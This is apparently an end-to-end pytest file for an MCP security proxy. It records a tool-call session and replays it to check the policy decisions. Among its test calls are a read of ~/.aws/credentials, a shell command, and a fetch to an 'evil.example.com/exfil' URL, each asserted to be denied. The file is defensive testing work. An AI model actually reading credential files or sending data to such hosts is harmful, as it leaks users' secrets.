"""End to end: record a real session through the stdio proxy (real `mcp` SDK client and
server), then replay it with `policy test`: unchanged, under a stricter policy, and checking
that what the proxy decided live is exactly what replay computes.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import anyio
import pytest
from typer.testing import CliRunner

import mcp_defense
from mcp_defense import replay
from mcp_defense.cli.main import app

pytest.importorskip("mcp_defense.proxy.stdio")
from mcp import ClientSession  # noqa: E402
from mcp.client.stdio import StdioServerParameters, stdio_client  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
SERVER = ROOT / "examples" / "servers" / "workspace_server.py"
HOME = "/home/alice"

STRICT = """\
import "builtin:rules.mcpd"

rule no_markdown_writes priority 85 {
  when call.writes && call.paths.exists(p, p.endsWith(".md"))
  deny "markdown is read-only: {path}"
}
"""


def _calls(ws: Path) -> list[tuple[str, dict]]:
    return [
        ("write_file", {"path": str(ws / "notes" / "todo.md"), "content": "- ship it\n"}),
        ("read_file", {"path": str(ws / "notes" / "todo.md")}),
        ("list_directory", {"path": str(ws)}),
        ("read_file", {"path": f"{HOME}/.aws/credentials"}),
        ("exec_command", {"command": "ls -la"}),
        ("fetch_url", {"url": "https://evil.example.com/exfil?d=1"}),
        ("write_file", {"path": str(ws / "README.md"), "content": "# project\n"}),
        ("read_file", {"path": str(ws / "app" / ".env")}),
    ]


async def _session(ws: Path, rec: Path, errlog: Path) -> list[str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(ROOT), env.get("PYTHONPATH")]))
    params = StdioServerParameters(
        command=sys.executable,
        args=[
            "-m",
            "mcp_defense.cli.main",
            "stdio",
            "--archetype",
            "filesystem",
            "--agent-id",
            "e2e",
            "--record",
            str(rec),
            "--set",
            f"workspace={ws}",
            "--set",
            f"home={HOME}",
            "--",
            sys.executable,
            str(SERVER),
            str(ws),
        ],
        env=env,
        cwd=str(ws.parent),
    )
    outcomes: list[str] = []
    with errlog.open("w") as err:
        async with stdio_client(params, errlog=err) as (read, write):
            async with ClientSession(read, write) as session:
                await session.initialize()
                for tool, args in _calls(ws):
                    try:
                        res = await session.call_tool(tool, args)
                        outcomes.append("error result" if res.is_error else "ok")
                    except Exception as e:  # noqa: BLE001 - a policy denial is a JSON-RPC error
                        outcomes.append(f"refused: {e}")
    return outcomes


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, list[str]]:
    base = tmp_path_factory.mktemp("e2e")
    ws = base / "ws"
    ws.mkdir()
    rec = base / "session.jsonl"
    outcomes = anyio.run(_session, ws, rec, base / "proxy.err")
    return ws, rec, outcomes


def _tool_calls(rec: Path) -> list[tuple[int, dict]]:
    out = []
    for n, line in enumerate(rec.read_text().splitlines(), 1):
        ev = json.loads(line)
        if ev["type"] == "tool_call":
            out.append((n, ev))
    return out


def test_the_proxy_recorded_the_session(recorded) -> None:
    ws, rec, outcomes = recorded
    assert outcomes[:3] == ["ok", "ok", "ok"]
    assert all(o.startswith("refused") for o in outcomes[3:6]), outcomes
    assert (ws / "notes" / "todo.md").read_text() == "- ship it\n"
    calls = [ev for _, ev in _tool_calls(rec)]
    assert [(c["tool"], c["decision"], c["rule"]) for c in calls] == [
        ("write_file", "allow", ""),
        ("read_file", "allow", ""),
        ("list_directory", "allow", ""),
        ("read_file", "deny", "crown_jewel"),
        ("exec_command", "deny", "archetype_no_spawn"),
        ("fetch_url", "deny", "archetype_no_network"),
        ("write_file", "allow", ""),
        ("read_file", "require_approval", "sensitive_path"),
    ]


def test_live_decision_equals_replayed_decision(recorded) -> None:
    """Same policy, same variables: replay gives the decision, rule and reason of live."""
    ws, rec, _ = recorded
    table = mcp_defense.compile(None, {"workspace": str(ws), "home": HOME})
    report = replay.run(table, replay.plan([str(rec)]), keep_passing=True)
    assert not report.errors
    by_line = {c.line: c for c in report.cases}
    lines = _tool_calls(rec)
    assert len(by_line) == len(lines) == 8
    for n, ev in lines:
        case = by_line[n]
        d = case.decision
        assert ev["policy_version"] == d.policy_version == table.version
        assert (ev["decision"], ev["rule"]) == (d.action.value, d.rule)
        if ev["approval"]:
            # without --approval the proxy refuses and says so, around the policy's reason
            assert ev["reason"].endswith(d.reason) and ev["approval"] == "rejected"
        else:
            assert ev["reason"] == d.reason
        assert case.status is replay.Status.PASS


def test_replay_unchanged_then_stricter(recorded, tmp_path: Path, monkeypatch) -> None:
    ws, rec, _ = recorded
    monkeypatch.chdir(rec.parent)
    runner = CliRunner()
    sets = ["--set", f"workspace={ws}", "--set", f"home={HOME}"]
    r = runner.invoke(app, ["policy", "test", *sets, rec.name])
    assert r.exit_code == 0, r.output
    assert "8 call(s) replayed" in r.stdout

    strict = tmp_path / "strict.mcpd"
    strict.write_text(STRICT)
    r = runner.invoke(app, ["policy", "test", *sets, "--policy", str(strict), rec.name])
    assert r.exit_code == 1, r.output
    lines = {ev["arguments"]["path"]: n for n, ev in _tool_calls(rec) if ev["tool"] == "write_file"}
    out = r.stdout
    assert "Changed decisions: 2 call(s)" in out
    assert "allow (default) → deny by no_markdown_writes" in out
    for p in (ws / "notes" / "todo.md", ws / "README.md"):
        assert f"session.jsonl:{lines[str(p)]}" in out
        assert str(p) in out
